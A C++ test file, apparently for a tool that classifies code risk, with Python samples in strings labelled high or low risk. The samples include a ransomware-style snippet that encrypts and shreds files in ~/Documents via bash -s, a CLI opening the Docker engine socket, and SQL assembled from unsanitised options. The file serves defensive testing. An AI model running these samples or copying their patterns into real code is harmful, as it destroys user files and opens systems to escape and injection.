// The classes the fifty-second round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog56_MANIFEST.tsv): CLIs with many subcommands, code
// crossing language boundaries, small network services, encodings used
// both ways, and containers and CI. Its aside scored 22/25 before any
// change; the classes below came from its tune part (70/75 before). Strings
// here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// HTTPConnection.request opens the connection with self.connect(): a
// subclass's override runs then, and a method nobody calls runs on an
// instance its class makes with its defaults.
TEST(FiftySecondRoundClasses, AConnectionSubclassOpensTheDockerSocket) {
  const Case cases[] = {
      {"a Unix-socket HTTPConnection to the Docker engine behind a click group", H,
       "import click, http.client, socket, json\n"
       "SOCKET_PATH = \"/var/run/docker.sock\"\n"
       "class UnixHTTPConnection(http.client.HTTPConnection):\n"
       "    def __init__(self, path, timeout=30):\n"
       "        super().__init__(\"localhost\", timeout=timeout)\n"
       "        self.unix_path = path\n"
       "    def connect(self):\n"
       "        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
       "        sock.connect(self.unix_path)\n"
       "        self.sock = sock\n"
       "class Engine:\n"
       "    def __init__(self, path=SOCKET_PATH):\n"
       "        self.path = path\n"
       "    def call(self, method, url):\n"
       "        conn = UnixHTTPConnection(self.path)\n"
       "        conn.request(method, \"/v1.43\" + url)\n"
       "        return json.loads(conn.getresponse().read())\n"
       "@click.group()\n"
       "@click.option(\"--socket\", \"sock\", default=SOCKET_PATH)\n"
       "@click.pass_context\n"
       "def cli(ctx, sock):\n"
       "    ctx.obj = Engine(sock)\n"
       "@cli.command()\n"
       "@click.pass_obj\n"
       "def ps(engine):\n"
       "    for c in engine.call(\"GET\", \"/containers/json\"):\n"
       "        click.echo(c[\"Id\"])\n"
       "cli()\n",
       "CONTAINER-ESCAPE-RISK"},
      {"the same client to the project's own service socket", L,
       "import click, http.client, socket, json\n"
       "SOCKET_PATH = \"./run/app.sock\"\n"
       "class UnixHTTPConnection(http.client.HTTPConnection):\n"
       "    def __init__(self, path, timeout=30):\n"
       "        super().__init__(\"localhost\", timeout=timeout)\n"
       "        self.unix_path = path\n"
       "    def connect(self):\n"
       "        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
       "        sock.connect(self.unix_path)\n"
       "        self.sock = sock\n"
       "class Engine:\n"
       "    def __init__(self, path=SOCKET_PATH):\n"
       "        self.path = path\n"
       "    def call(self, method, url):\n"
       "        conn = UnixHTTPConnection(self.path)\n"
       "        conn.request(method, \"/v1.43\" + url)\n"
       "        return json.loads(conn.getresponse().read())\n"
       "@click.group()\n"
       "@click.option(\"--socket\", \"sock\", default=SOCKET_PATH)\n"
       "@click.pass_context\n"
       "def cli(ctx, sock):\n"
       "    ctx.obj = Engine(sock)\n"
       "@cli.command()\n"
       "@click.pass_obj\n"
       "def ps(engine):\n"
       "    for c in engine.call(\"GET\", \"/containers/json\"):\n"
       "        click.echo(c[\"Id\"])\n"
       "cli()\n"},
  };
  for (const auto& c : cases) check(c);
}

// A script given to a shell on its standard input (bash -s, input=...) is
// judged as this code's, where it is known in part.
TEST(FiftySecondRoundClasses, AScriptOnAShellsStandardInput) {
  const Case cases[] = {
      {"walked documents encrypted and shredded by a batch piped to bash -s", B,
       "import os, shlex, subprocess\n"
       "lines = ['set +e']\n"
       "for d, _, fs in os.walk(os.path.expanduser('~/Documents')):\n"
       "    for n in fs:\n"
       "        p = shlex.quote(os.path.join(d, n))\n"
       "        lines.append(f'openssl enc -aes-256-cbc -pbkdf2 -pass env:K -in {p} -out {p}.sealed && shred -u {p}')\n"
       "subprocess.run(['bash', '-s'], input='\\n'.join(lines) + '\\n', text=True)\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE"},
      {"the project's files compressed by a batch piped to bash -s", M,
       "import shlex, subprocess\nfrom pathlib import Path\n"
       "lines = [f'gzip -k {shlex.quote(str(p))}' for p in Path('logs').glob('*.log')]\n"
       "subprocess.run(['bash', '-s'], input='\\n'.join(lines) + '\\n', text=True)\n"},
  };
  for (const auto& c : cases) check(c);
}

// contextlib.closing hands back what it was given.
TEST(FiftySecondRoundClasses, ClosingHandsBackItsArgument) {
  const Case cases[] = {
      {"options formatted into SQL run through closing(connect())", M,
       "import sqlite3, click\n"
       "from contextlib import closing\n"
       "def build(name_like, sort):\n"
       "    parts = [\"SELECT sku, name FROM items WHERE 1=1\"]\n"
       "    if name_like:\n"
       "        parts.append(\"AND name LIKE '%%%s%%'\" % name_like)\n"
       "    parts.append(\"ORDER BY {}\".format(sort))\n"
       "    return \" \".join(parts)\n"
       "@click.command()\n"
       "@click.option(\"--name\", \"name_like\", default=None)\n"
       "@click.option(\"--sort\", default=\"sku\")\n"
       "def report(name_like, sort):\n"
       "    with closing(sqlite3.connect(\"inv.db\")) as conn:\n"
       "        print(conn.execute(build(name_like, sort)).fetchall())\n"
       "report()\n",
       "SQL-INJECTION"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
